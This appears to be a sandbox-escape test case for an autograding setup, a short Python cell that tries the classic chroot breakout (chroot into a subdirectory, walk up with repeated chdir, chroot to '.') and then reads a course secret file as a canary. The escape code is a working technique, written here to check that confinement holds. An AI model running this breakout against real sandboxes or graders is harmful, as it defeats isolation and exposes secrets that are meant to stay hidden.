# tries: leaves a changed root directory the classic way: chroot below, and walk up
# walls: no rights, private root
# canary: secret
# proof: stock nbgrader/root
# %%
import os

os.makedirs("deeper", exist_ok=True)
os.chroot("deeper")
for _ in range(30):
    os.chdir("..")
os.chroot(".")
print(open("@COURSE@/course_secret").read())
